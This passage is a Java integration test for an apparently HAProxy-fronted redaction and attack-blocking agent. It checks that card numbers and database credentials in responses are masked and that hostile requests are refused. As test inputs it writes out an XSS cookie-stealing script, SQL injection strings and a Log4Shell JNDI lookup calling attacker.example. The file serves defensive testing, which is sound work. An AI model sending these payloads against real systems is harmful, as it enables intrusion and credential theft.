package dev.sluice.standalone.spoe;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.Headers;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpHandler;
import com.sun.net.httpserver.HttpServer;
import dev.sluice.standalone.proxy.Cli;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The shipped {@code deploy/haproxy} configuration with a real HAProxy (Debian's package), a real
 * upstream and the agent, on loopback: only the ports and the SPOE file's path are changed.
 */
class HaproxySpoeTest {
    static final Path DEPLOY = Path.of("..", "deploy", "haproxy");
    static final String CLEAN = "{\"status\":\"ok\",\"items\":[1,2,3]}";
    static final String USERS = "{\n  \"users\": [\n    {\"name\": \"Ann\", \"card\": \"4111 1111 1111 1111\"}\n  ]\n}\n";
    static final String DB_PASSWORD = "Zq7!vR2#pLw9xT";
    /** An error page that prints its data source, password included. */
    static final String ERROR_PAGE = "{\"error\":\"Internal Server Error\",\"trace\":\"org.postgresql.util.PSQLException:"
            + " FATAL: password authentication failed\",\"datasource\":{\"url\":\"jdbc:postgresql://db:5432/shop\","
            + "\"username\":\"shop\",\"password\":\"" + DB_PASSWORD + "\"}}";

    static final String DEBUG_DB_URL = "postgres://app:Vt8qLm2xRz5p@db.internal:5432/app";
    /** A log excerpt a debug endpoint prints: lines, a tab, a card. */
    static final String LOG = "12:00:01\tINFO\tcharge ok\r\n12:00:02\tWARN\tretry card 4111 1111 1111 1111\r\n";

    @TempDir
    static Path dir;
    static SpoeRuntime agent;
    static HttpServer upstream;
    static Haproxy haproxy;
    static final AtomicInteger posts = new AtomicInteger();
    /** The targets {@code /track} received, as sent. */
    static final List<String> TRACKED = new CopyOnWriteArrayList<>();
    /** The request bodies {@code /echo} received, each after its framing. */
    static final List<String> RECEIVED = new CopyOnWriteArrayList<>();
    /** The header fields {@code /track} received. */
    static final List<Headers> TRACKED_HEADERS = new CopyOnWriteArrayList<>();
    static final HttpClient client = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

    @BeforeAll
    static void start() throws Exception {
        agent = SpopAgentTest.start(dir, s -> s);
        upstream = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 16);
        upstream.createContext("/clean", ex -> send(ex, "application/json", CLEAN));
        upstream.createContext("/users", ex -> {
            // A session cookie and a preference, as a page that shows a card also sets them.
            ex.getResponseHeaders().add("set-cookie", "session=abc123; HttpOnly; Secure; Path=/");
            ex.getResponseHeaders().add("set-cookie", "theme=dark; Path=/");
            send(ex, "application/json; charset=utf-8", USERS);
        });
        upstream.createContext("/fail", ex -> {
            // A browser client's API: its answers carry CORS headers, errors included.
            ex.getResponseHeaders().add("access-control-allow-origin", "https://shop.example.com");
            ex.getResponseHeaders().add("vary", "Origin, Accept-Encoding");
            send(ex, 500, "application/json", ERROR_PAGE);
        });
        upstream.createContext("/teapot", ex -> send(ex, 418, "application/json", ERROR_PAGE));
        upstream.createContext("/log", ex -> {
            ex.getResponseHeaders().add("etag", "\"v1\"");
            ex.getResponseHeaders().add("cache-control", "max-age=60");
            send(ex, "text/plain; charset=utf-8", LOG);
        });
        upstream.createContext("/users.gz", ex -> {
            ex.getResponseHeaders().add("content-encoding", "gzip");
            send(ex, 200, "application/json", gzip(USERS));
        });
        upstream.createContext("/debug", ex -> {
            ex.getResponseHeaders().add("x-debug-db", DEBUG_DB_URL);
            // A binary field (-bin, base64 of a protobuf message whose field 1 is the URL): read decoded.
            byte[] url = DEBUG_DB_URL.getBytes(StandardCharsets.UTF_8);
            byte[] detail = new byte[2 + url.length];
            detail[0] = 0x0a;
            detail[1] = (byte) url.length;
            System.arraycopy(url, 0, detail, 2, url.length);
            ex.getResponseHeaders().add("x-detail-bin", Base64.getEncoder().encodeToString(detail));
            send(ex, "application/json", CLEAN);
        });
        upstream.createContext("/track", ex -> {
            TRACKED.add(ex.getRequestURI().getRawPath() + "?" + ex.getRequestURI().getRawQuery());
            TRACKED_HEADERS.add(ex.getRequestHeaders());
            send(ex, "application/json", "{\"ok\":true}");
        });
        upstream.createContext("/echo", ex -> {
            String framing = "length=" + ex.getRequestHeaders().getFirst("content-length") + " chunked="
                    + "chunked".equals(ex.getRequestHeaders().getFirst("transfer-encoding"));
            RECEIVED.add(framing + " " + new String(ex.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
            send(ex, "application/json", "{\"ok\":true}");
        });
        // Feeds: one piece now, one a second later, as a live feed sends them.
        upstream.createContext("/events", feed("text/event-stream", "data: {\"n\":1}\n\n", "data: {\"n\":2}\n\n"));
        upstream.createContext("/api/chat", feed("application/x-ndjson", "{\"n\":1}\n", "{\"n\":2}\n"));
        // A Kubernetes watch answers plain JSON: the request says it is a feed.
        upstream.createContext("/api/v1/pods", feed("application/json", "{\"type\":\"ADDED\"}\n",
                "{\"type\":\"DELETED\"}\n"));
        // Docker's events: plain JSON as well, a feed by its path.
        upstream.createContext("/v1.43/events", feed("application/json", "{\"Type\":\"container\"}\n",
                "{\"Type\":\"network\"}\n"));
        // A feed quiet for longer than HAProxy's inactivity timeouts (1 s in the test below).
        upstream.createContext("/quiet", feed("text/event-stream", "data: {\"n\":1}\n\n", "data: {\"n\":2}\n\n",
                false, 2_500));
        upstream.createContext("/api/v1/quiet-pods", feed("application/json", "{\"type\":\"ADDED\"}\n",
                "{\"type\":\"DELETED\"}\n", false, 2_500));
        // A grpc-web server stream (a browser's live view): one message, 2.5 s of quiet, another.
        upstream.createContext("/pkg.Feed/Watch", ex -> {
            ex.getRequestBody().readAllBytes();
            ex.getResponseHeaders().add("content-type", "application/grpc-web+proto");
            ex.sendResponseHeaders(200, 0);
            try (var out = ex.getResponseBody()) {
                out.write(SpopAgentTest.grpcFrame("first"));
                out.flush();
                Thread.sleep(2_500);
                out.write(grpcWebAnswer("second"));
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
        });
        // An NDJSON export: a feed's type, but its length declared, its second line a moment later.
        upstream.createContext("/export", feed("application/x-ndjson", "{\"n\":1}\n",
                "{\"n\":2,\"card\":\"" + CARD_ANSWER + "\"}\n", true, 300));
        // A report longer than HAProxy's buffer, sent chunked (no declared length), a card in its
        // first line and one in its last.
        upstream.createContext("/report", ex -> {
            ex.getResponseHeaders().set("content-type", "application/json");
            ex.sendResponseHeaders(200, 0);
            try (var out = ex.getResponseBody()) {
                out.write(LONG_REPORT.getBytes(StandardCharsets.UTF_8));
            }
        });
        upstream.createContext("/wide-report", ex -> {
            ex.getResponseHeaders().set("content-type", "application/json");
            ex.getResponseHeaders().set("x-trace", WIDE_HEAD_FIELD);
            ex.sendResponseHeaders(200, 0);
            try (var out = ex.getResponseBody()) {
                out.write(WIDE_REPORT.getBytes(StandardCharsets.UTF_8));
            }
        });
        upstream.createContext("/orders", ex -> {
            ex.getRequestBody().readAllBytes();
            posts.incrementAndGet();
            send(ex, "application/json", "{\"ok\":true}");
        });
        // A grpc-web service: HTTP/1.1, its trailers a frame of the body (a browser's gRPC).
        upstream.createContext("/pkg.Search/Find", ex -> {
            ex.getRequestBody().readAllBytes();
            posts.incrementAndGet();
            send(ex, 200, ex.getRequestHeaders().getFirst("content-type"), GRPC_WEB_TRAILERS);
        });
        upstream.createContext("/pkg.Cards/Get", ex -> {
            ex.getRequestBody().readAllBytes();
            send(ex, 200, "application/grpc-web+proto", grpcWebAnswer(CARD_ANSWER));
        });
        upstream.start();
        haproxy = Haproxy.start(dir.resolve("up"), upstream.getAddress().getPort(), agent.port(), false);
    }

    @AfterAll
    static void stop() throws Exception {
        if (haproxy != null) {
            haproxy.close();
        }
        if (upstream != null) {
            upstream.stop(0);
        }
        if (agent != null) {
            agent.close();
        }
    }

    private static void send(HttpExchange ex, String type, String body) throws IOException {
        send(ex, 200, type, body);
    }

    private static void send(HttpExchange ex, int status, String type, String body) throws IOException {
        send(ex, status, type, body.getBytes(StandardCharsets.UTF_8));
    }

    private static void send(HttpExchange ex, int status, String type, byte[] b) throws IOException {
        ex.getResponseHeaders().set("content-type", type);
        ex.getResponseHeaders().set("x-upstream", "yes");
        ex.sendResponseHeaders(status, b.length);
        ex.getResponseBody().write(b);
        ex.close();
    }

    private static byte[] gzip(String text) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream z = new GZIPOutputStream(out)) {
            z.write(text.getBytes(StandardCharsets.UTF_8));
        }
        return out.toByteArray();
    }

    private static HttpResponse<String> get(Haproxy h, String path) throws Exception {
        return client.send(HttpRequest.newBuilder(URI.create(h.url() + path)).timeout(Duration.ofSeconds(10)).build(),
                HttpResponse.BodyHandlers.ofString());
    }

    @Test
    void benignResponsesPassUnchanged() throws Exception {
        HttpResponse<String> r = get(haproxy, "/clean");
        assertEquals(200, r.statusCode());
        assertEquals(CLEAN, r.body());
        assertEquals("yes", r.headers().firstValue("x-upstream").orElse(""));
    }

    @Test
    void aCardInAResponseIsRedactedAndTheJsonStaysValid() throws Exception {
        HttpResponse<String> r = get(haproxy, "/users");
        assertEquals(200, r.statusCode());
        assertFalse(r.body().contains("4111 1111 1111 1111"), r.body());
        assertTrue(r.body().contains("**** **** **** 1111"), r.body());
        assertEquals("application/json; charset=utf-8", r.headers().firstValue("content-type").orElse(""));
        assertEquals(List.of("session=abc123; HttpOnly; Secure; Path=/", "theme=dark; Path=/"),
                r.headers().allValues("set-cookie"), "the redacted page keeps the cookies it set");
        JsonNode users = new ObjectMapper().readTree(r.body());
        assertEquals("Ann", users.path("users").get(0).path("name").asText());
    }

    @Test
    void aPasswordInAnErrorPageIsRedactedUnderItsOwnStatusWithItsCorsHeaders() throws Exception {
        HttpResponse<String> r = get(haproxy, "/fail");
        assertEquals(500, r.statusCode());
        assertFalse(r.body().contains(DB_PASSWORD), r.body());
        JsonNode page = new ObjectMapper().readTree(r.body());
        assertEquals("shop", page.path("datasource").path("username").asText());
        assertEquals("application/json", r.headers().firstValue("content-type").orElse(""));
        assertEquals("https://shop.example.com", r.headers().firstValue("access-control-allow-origin").orElse(""),
                "a browser drops an answer without its CORS header");
        assertEquals("Origin, Accept-Encoding", r.headers().firstValue("vary").orElse(""));
    }

    /** Any status: sluice.lua answers under the response's own, with its header fields. */
    @Test
    void aRedactionIsReturnedUnderTheResponsesOwnStatus() throws Exception {
        HttpResponse<String> r = get(haproxy, "/teapot");
        assertEquals(418, r.statusCode());
        assertFalse(r.body().contains(DB_PASSWORD), r.body());
        assertEquals("shop", new ObjectMapper().readTree(r.body()).path("datasource").path("username").asText());
        assertEquals("yes", r.headers().firstValue("x-upstream").orElse(""), "the response's own fields stay");
    }

    /**
     * A text body keeps its line breaks (HAProxy's return rules would have escaped them), the
     * response keeps every field but its framing, and a gzip body goes back decoded, without
     * its Content-Encoding.
     */
    @Test
    void aRedactedBodyKeepsItsBytesAndTheResponsesFields() throws Exception {
        HttpResponse<String> text = get(haproxy, "/log");
        assertEquals(200, text.statusCode());
        assertEquals(LOG.replace("4111 1111 1111 1111", "**** **** **** 1111"), text.body());
        assertEquals("text/plain; charset=utf-8", text.headers().firstValue("content-type").orElse(""));
        assertEquals("\"v1\"", text.headers().firstValue("etag").orElse(""));
        assertEquals("max-age=60", text.headers().firstValue("cache-control").orElse(""));
        assertEquals(String.valueOf(text.body().length()), text.headers().firstValue("content-length").orElse(""));

        HttpResponse<byte[]> gz = client.send(HttpRequest.newBuilder(URI.create(haproxy.url() + "/users.gz"))
                .timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofByteArray());
        assertEquals(200, gz.statusCode());
        assertTrue(gz.headers().firstValue("content-encoding").isEmpty(), gz.headers().map().toString());
        String body = new String(gz.body(), StandardCharsets.UTF_8);
        assertTrue(body.contains("**** **** **** 1111") && !body.contains("4111 1111 1111 1111"), body);
    }

    /**
     * A secret in a response header: sluice.lua sets the agent's masked value in its place (and
     * removes a binary field, whose base64 text no mask keeps decodable), the body passes as it
     * came, and the event says the response went on redacted.
     */
    @Test
    void aSecretInAResponseHeaderIsMasked() throws Exception {
        HttpResponse<String> r = get(haproxy, "/debug");
        assertEquals(200, r.statusCode());
        assertEquals(CLEAN, r.body());
        String masked = r.headers().firstValue("x-debug-db").orElse("");
        assertEquals("[REDACTED:basic_auth_url]/app", masked, "the default policy's fixed mask");
        assertTrue(r.headers().firstValue("x-detail-bin").isEmpty(), r.headers().map().toString());
        assertEquals("yes", r.headers().firstValue("x-upstream").orElse(""));
        JsonNode event = SpopAgentTest.awaitEvent(dir.resolve("events.jsonl"), e -> e.path("path").asText().equals("/debug")
                && e.path("direction").asText().equals("response"));
        assertEquals("header:x-debug-db", event.path("findings").get(0).path("path").asText(), event.toString());
        assertEquals("redacted", event.path("delivery").asText(), event.toString());
        assertFalse(event.toString().contains("Vt8qLm2xRz5p"), "no raw value in the event: " + event);
        // The shipped file gives each transaction an id (unique-id-format) and sends it as X-Request-Id.
        assertTrue(event.path("requestId").asText().matches("[0-9A-F]+:[0-9A-F]+_[0-9A-F]+:[0-9A-F]+_[0-9A-F]+_.+"),
                event.toString());
    }

    @Test
    void anAttackIsRefusedBeforeItReachesTheService() throws Exception {
        int before = posts.get();
        HttpResponse<String> r = client.send(HttpRequest.newBuilder(URI.create(haproxy.url() + "/orders"))
                .header("content-type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("{\"note\":\"<script>alert(document.cookie)</script>\"}"))
                .timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofString());
        assertEquals(403, r.statusCode());
        JsonNode body = new ObjectMapper().readTree(r.body());
        assertEquals("blocked", body.path("error").asText());
        assertFalse(body.path("event_id").asText().isEmpty(), r.body());
        assertEquals("no-store", r.headers().firstValue("cache-control").orElse(""), "a refusal is never cached");
        assertEquals(before, posts.get(), "the blocked request must not reach the service");

        HttpResponse<String> ok = client.send(HttpRequest.newBuilder(URI.create(haproxy.url() + "/orders"))
                .header("content-type", "application/json").POST(HttpRequest.BodyPublishers.ofString("{\"sku\":\"A-1\"}"))
                .timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofString());
        assertEquals(200, ok.statusCode());
        assertEquals(before + 1, posts.get());
    }

    /**
     * grpc-web (a browser's gRPC over HTTP/1.1) goes to the HTTP service, not to the HTTP/2 gRPC
     * backend, and a refused call gets the trailers-only PERMISSION_DENIED under the request's own
     * content type, which is how a grpc-web client reads a call's status.
     */
    @ParameterizedTest
    @ValueSource(strings = {"application/grpc-web+proto", "application/grpc-web-text"})
    void aGrpcWebCallReachesTheHttpServiceAndARefusalKeepsItsType(String type) throws Exception {
        int before = posts.get();
        HttpResponse<byte[]> ok = grpcWeb(type, "ok");
        assertEquals(200, ok.statusCode());
        assertEquals(type, ok.headers().firstValue("content-type").orElse(""));
        assertEquals(before + 1, posts.get(), "a clean call reaches the grpc-web service");
        HttpResponse<byte[]> refused = grpcWeb(type, "1' UNION SELECT username, password FROM users--");
        assertEquals(200, refused.statusCode());
        assertEquals(type, refused.headers().firstValue("content-type").orElse(""), "the request's own type");
        assertEquals("7", refused.headers().firstValue("grpc-status").orElse(""));
        assertTrue(refused.headers().firstValue("grpc-message").orElse("").startsWith("blocked by policy, event "));
        assertEquals(before + 1, posts.get(), "the refused call never reached the service");
    }

    static final String CARD_ANSWER = "4111 1111 1111 1111";
    /** A JSON answer of about 100 KB: a card first, 2,000 order lines, a card last. */
    static final String LONG_REPORT = report(2_000);
    /** A JSON answer of about 8 KB, below an eighth of the shipped buffer, and its head field of 7.6 KB. */
    static final String WIDE_REPORT = report(165);
    static final String WIDE_HEAD_FIELD = "x".repeat(7_600);

    /** A JSON answer: a card first, {@code lines} order lines of 48 bytes each, a card last. */
    static String report(int lines) {
        return "{\"first\": {\"card\": \"" + CARD_ANSWER + "\"},\n \"lines\": ["
                + String.join(",\n  ", Collections.nCopies(lines, "{\"sku\": \"A-1002\", \"qty\": 2, \"price\": 19.99}"))
                + "],\n \"last\": {\"card\": \"5500 0055 5555 5559\"}}\n";
    }

    /** grpc-web's trailers for a call that succeeded: a frame flagged 0x80 of {@code grpc-status:0}. */
    static final byte[] GRPC_WEB_TRAILERS = java.nio.ByteBuffer.allocate(20).put((byte) 0x80).putInt(15)
            .put("grpc-status:0\r\n".getBytes(StandardCharsets.US_ASCII)).array();

    /** A grpc-web answer: one message whose field 1 is {@code value}, then the trailers' frame. */
    private static byte[] grpcWebAnswer(String value) {
        byte[] message = SpopAgentTest.grpcFrame(value);
        byte[] answer = java.util.Arrays.copyOf(message, message.length + GRPC_WEB_TRAILERS.length);
        System.arraycopy(GRPC_WEB_TRAILERS, 0, answer, message.length, GRPC_WEB_TRAILERS.length);
        return answer;
    }

    /**
     * A grpc-web answer carrying a card reaches the browser with the card masked, its message frame
     * re-encoded and its trailers' frame kept: the grpc-web backend's body filter puts the agent's
     * body in place (a Lua answer cannot carry the NUL bytes of its frame heads).
     */
    @Test
    void aGrpcWebAnswerIsRedactedWithItsTrailersFrame() throws Exception {
        HttpResponse<byte[]> r = client.send(HttpRequest.newBuilder(URI.create(haproxy.url() + "/pkg.Cards/Get"))
                .header("content-type", "application/grpc-web+proto")
                .POST(HttpRequest.BodyPublishers.ofByteArray(new byte[5])).timeout(Duration.ofSeconds(10)).build(),
                HttpResponse.BodyHandlers.ofByteArray());
        assertEquals(200, r.statusCode());
        java.nio.ByteBuffer b = java.nio.ByteBuffer.wrap(r.body());
        assertEquals(0, b.get(), "a message frame");
        byte[] message = new byte[b.getInt()];
        b.get(message);
        String text = new String(message, StandardCharsets.US_ASCII);
        assertFalse(text.contains(CARD_ANSWER), text);
        assertTrue(text.contains("1111"), "masked, its last digits kept: " + text);
        assertEquals((byte) 0x80, b.get(), "then the trailers' frame");
        byte[] trailers = new byte[b.getInt()];
        b.get(trailers);
        assertEquals("grpc-status:0\r\n", new String(trailers, StandardCharsets.US_ASCII));
        assertFalse(b.hasRemaining());
    }

    /** One grpc-web call of {@code /pkg.Search/Find} whose message's field 1 is {@code value}. */
    private static HttpResponse<byte[]> grpcWeb(String type, String value) throws Exception {
        byte[] frame = SpopAgentTest.grpcFrame(value);
        byte[] body = type.endsWith("-text") ? java.util.Base64.getEncoder().encode(frame) : frame;
        return client.send(HttpRequest.newBuilder(URI.create(haproxy.url() + "/pkg.Search/Find"))
                .header("content-type", type).header("x-grpc-web", "1")
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)).timeout(Duration.ofSeconds(10)).build(),
                HttpResponse.BodyHandlers.ofByteArray());
    }

    /** The request line and headers HAProxy sends with the body ({@code pathq}, {@code req.hdrs_bin}) are inspected too. */
    @Test
    void anAttackInTheUrlOrAHeaderIsRefusedBeforeItReachesTheService() throws Exception {
        int before = posts.get();
        HttpResponse<String> query = get(haproxy, "/orders?q=0%20UNION%20SELECT%20username,password%20FROM%20users--");
        assertEquals(403, query.statusCode(), query.body());
        HttpResponse<String> header = client.send(HttpRequest.newBuilder(URI.create(haproxy.url() + "/orders"))
                .header("User-Agent", "${jndi:ldap://attacker.example/a}").timeout(Duration.ofSeconds(10)).build(),
                HttpResponse.BodyHandlers.ofString());
        assertEquals(403, header.statusCode(), header.body());
        assertEquals(before, posts.get(), "a refused request must not reach the service");
        HttpResponse<String> everyday = client.send(HttpRequest.newBuilder(URI.create(haproxy.url()
                        + "/orders?q=select+a+plan&sort=-created_at"))
                .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)")
                .header("Cookie", "_ga=GA1.2.1234567890.1700000000; theme=dark").timeout(Duration.ofSeconds(10)).build(),
                HttpResponse.BodyHandlers.ofString());
        assertEquals(200, everyday.statusCode(), everyday.body());
        assertEquals(before + 1, posts.get());
    }

    /**
     * Under a policy that redacts cards in requests, a card in the query reaches the service
     * masked (the agent's {@code pathq}, HAProxy's {@code set-pathq}), so do a header field and a
     * body the policy redacts (sluice.lua); the response passes as it came.
     */
    @Test
    void aRequestReachesTheServiceWithWhatThePolicyRedactsMasked() throws Exception {
        Path policy = dir.resolve("redact-requests.yaml");
        Files.writeString(policy, """
                version: 1
                defaults:
                  request:
                    attack: block
                    credit_card: {action: redact, mask: keep_last_4}
                routes:
                  - name: neutralise
                    match: {path: /track/neutral}
                    request:
                      attack.log4shell: {action: redact, mask: fixed}
                """);
        Path agentDir = Files.createDirectories(dir.resolve("redacting-agent"));
        try (SpoeRuntime redacting = SpopAgentTest.start(agentDir, b -> b.policyFile(policy));
             Haproxy h = Haproxy.start(dir.resolve("redacting"), upstream.getAddress().getPort(), 9001,
                     redacting.port(), false, true);
             Haproxy withoutFilter = Haproxy.start(dir.resolve("redacting-plain"), upstream.getAddress().getPort(),
                     redacting.port(), false)) {
            TRACKED.clear();
            HttpResponse<String> r = get(h, "/track?card=4111%201111%201111%201111&n=1");
            assertEquals(200, r.statusCode(), r.body());
            assertEquals("{\"ok\":true}", r.body(), "the request's redaction does not touch the response");
            assertEquals(List.of("/track?card=****%20****%20****%201111&n=1"), TRACKED);
            HttpResponse<String> plain = get(h, "/track?n=2&q=a+b");
            assertEquals(200, plain.statusCode());
            assertEquals("/track?n=2&q=a+b", TRACKED.getLast(), "a target with nothing to redact goes on as it came");

            // A route that neutralises Log4Shell in place of refusing it: the header reaches the
            // service masked (sluice.lua), every value of that name in order, the other fields as they came.
            TRACKED_HEADERS.clear();
            HttpResponse<String> header = client.send(HttpRequest.newBuilder(URI.create(h.url() + "/track/neutral"))
                    .header("x-api-version", "${jndi:ldap://attacker.example/a}").header("x-api-version", "2")
                    .header("x-tenant", "acme").timeout(Duration.ofSeconds(10)).build(),
                    HttpResponse.BodyHandlers.ofString());
            assertEquals(200, header.statusCode(), header.body());
            List<String> received = TRACKED_HEADERS.getFirst().get("x-api-version");
            assertEquals(2, received.size(), received.toString());
            assertFalse(received.getFirst().contains("jndi"), received.toString());
            assertEquals("2", received.get(1));
            assertEquals("acme", TRACKED_HEADERS.getFirst().getFirst("x-tenant"));

            // A card in a request body of a declared length: with the filter turned on, the service
            // receives the body masked (sluice.lua's filter), its length counted anew.
            RECEIVED.clear();
            HttpResponse<String> post = client.send(HttpRequest.newBuilder(URI.create(h.url() + "/echo"))
                    .header("content-type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofString("{\"card\": \"4111 1111 1111 1111\",\n \"n\": 1}"))
                    .timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofString());
            assertEquals(200, post.statusCode(), post.body());
            assertEquals("length=null chunked=true {\"card\": \"**** **** **** 1111\",\n \"n\": 1}", RECEIVED.getFirst());
            // Without a declared length, a body that did not fill HAProxy's buffer is whole (the
            // file tells the agent so): masked as well.
            HttpResponse<String> chunked = client.send(HttpRequest.newBuilder(URI.create(h.url() + "/echo"))
                    .header("content-type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(
                            "{\"card\": \"4111 1111 1111 1111\"}".getBytes(StandardCharsets.UTF_8))))
                    .timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofString());
            assertEquals(200, chunked.statusCode(), chunked.body());
            assertEquals("length=null chunked=true {\"card\": \"**** **** **** 1111\"}", RECEIVED.get(1));
            // One that filled it was cut there, and a mask on the part the agent saw would be
            // followed by the rest: a limit, and the fail rule decides (open: as it came).
            HttpResponse<String> cut = client.send(HttpRequest.newBuilder(URI.create(h.url() + "/echo/long"))
                    .header("content-type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(
                            LONG_REPORT.getBytes(StandardCharsets.UTF_8))))
                    .timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofString());
            assertEquals(200, cut.statusCode(), cut.body());
            assertEquals("length=null chunked=true " + LONG_REPORT, RECEIVED.get(2));
            JsonNode event = SpopAgentTest.awaitEvent(agentDir.resolve("events.jsonl"),
                    e -> e.path("path").asText().equals("/echo/long") && e.path("action").asText().equals("alert"));
            assertTrue(event.path("reason").asText().contains(SpoeCheck.NOTE_TRUNCATED), event.toString());
            assertTrue(event.path("reason").asText().contains(SpoeCheck.NOTE_REDACTION_NOT_POSSIBLE), event.toString());
            assertEquals("inspected_bytes_limit", event.path("outcome").asText(), event.toString());
            // The file as shipped, filter off: the agent is told so, and leaves the redaction to the fail rule.
            HttpResponse<String> unfiltered = client.send(HttpRequest.newBuilder(URI.create(withoutFilter.url()
                            + "/echo/plain")).header("content-type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofString("{\"card\": \"4111 1111 1111 1111\"}"))
                    .timeout(Duration.ofSeconds(10)).build(), HttpResponse.BodyHandlers.ofString());
            assertEquals(200, unfiltered.statusCode(), unfiltered.body());
            assertEquals("length=31 chunked=false {\"card\": \"4111 1111 1111 1111\"}", RECEIVED.get(3));
            JsonNode plainEvent = SpopAgentTest.awaitEvent(agentDir.resolve("events.jsonl"),
                    e -> e.path("path").asText().equals("/echo/plain"));
            assertTrue(plainEvent.path("reason").asText().contains(SpoeCheck.NOTE_REDACTION_NOT_POSSIBLE),
                    plainEvent.toString());
        }
    }

    /**
     * A route's own answer to a refused client ({@code block_response}) through HAProxy: its
     * status, content type, header fields and body with the event id, for a request and for a
     * response, whatever the status.
     */
    @Test
    void aRoutesOwnAnswerToARefusalIsWhatHaproxySends() throws Exception {
        Path policy = dir.resolve("answers.yaml");
        Files.writeString(policy, """
                version: 1
                defaults:
                  request: {attack: block}
                  response: {secret: block}
                  block_response:
                    status: 451
                    content_type: text/html; charset=utf-8
                    body: "<p>Refused. Reference {event_id}.</p>"
                    headers: {Retry-After: "120", Access-Control-Allow-Origin: "*"}
                routes:
                  - name: teapot
                    match: {path: /orders/**}
                    block_response: {status: 418, body: "no"}
                """);
        Path agentDir = Files.createDirectories(dir.resolve("answering-agent"));
        try (SpoeRuntime answering = SpopAgentTest.start(agentDir, b -> b.policyFile(policy));
             Haproxy h = Haproxy.start(dir.resolve("answering"), upstream.getAddress().getPort(), answering.port(),
                     false)) {
            HttpResponse<String> request = get(h, "/clean?q=0%20UNION%20SELECT%20username,password%20FROM%20users--");
            assertEquals(451, request.statusCode(), request.body());
            assertTrue(request.body().matches("<p>Refused\\. Reference [A-Za-z0-9._:-]+\\.</p>"), request.body());
            assertEquals("text/html; charset=utf-8", request.headers().firstValue("content-type").orElse(""));
            assertEquals("no-store", request.headers().firstValue("cache-control").orElse(""));
            assertEquals("120", request.headers().firstValue("retry-after").orElse(""));
            assertEquals("*", request.headers().firstValue("access-control-allow-origin").orElse(""));

            HttpResponse<String> response = get(h, "/fail");
            assertEquals(451, response.statusCode(), "the error page prints a database password: " + response.body());
            assertTrue(response.body().startsWith("<p>Refused. Reference "), response.body());

            assertEquals("120", response.headers().firstValue("retry-after").orElse(""));

            HttpResponse<String> teapot = get(h, "/orders/7?q=0%20UNION%20SELECT%20username,password%20FROM%20users--");
            assertEquals(418, teapot.statusCode(), "any status the route names");
            assertEquals("no", teapot.body());
        }
    }

    /**
     * The shipped configuration fails open when the agent cannot answer; {@code SLUICE_HAPROXY_FAIL_CLOSED=1}
     * makes it fail closed.
     */
    @Test
    void withTheAgentDownTheFailRuleOfTheFileDecides() throws Exception {
        int closedPort;
        try (ServerSocket s = new ServerSocket(0)) {
            closedPort = s.getLocalPort();
        }
        try (Haproxy h = Haproxy.start(dir.resolve("down-open"), upstream.getAddress().getPort(), closedPort, false)) {
            HttpResponse<String> r = get(h, "/clean");
            assertEquals(200, r.statusCode());
            assertEquals(CLEAN, r.body());
        }
        try (Haproxy h = Haproxy.start(dir.resolve("down-closed"), upstream.getAddress().getPort(), closedPort, true)) {
            assertEquals(503, get(h, "/clean").statusCode());
        }
    }

    /** An answer of {@code contentType}: {@code first} now, {@code second} a second later. */
    private static HttpHandler feed(String contentType, String first, String second) {
        return feed(contentType, first, second, false, 1_000);
    }

    /** {@code declared}: with its Content-Length, as an export of a feed's type is sent. */
    private static HttpHandler feed(String contentType, String first, String second, boolean declared, long pause) {
        byte[] one = first.getBytes(StandardCharsets.UTF_8);
        byte[] two = second.getBytes(StandardCharsets.UTF_8);
        return ex -> {
            ex.getResponseHeaders().add("content-type", contentType);
            ex.sendResponseHeaders(200, declared ? one.length + two.length : 0);
            try (var out = ex.getResponseBody()) {
                out.write(one);
                out.flush();
                Thread.sleep(pause);
                out.write(two);
            } catch (InterruptedException e) {
                Thread.currentThread().interrupt();
            }
        };
    }

    /**
     * Feeds outlasting HAProxy's wait for a body: their answer is not waited for (known by its type,
     * or a watch or Docker's events by its request), so HAProxy does not cut the feed off with 504,
     * and every piece arrives. A watch turned off, or events with an end, is a plain answer, waited
     * for, and cut off.
     */
    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
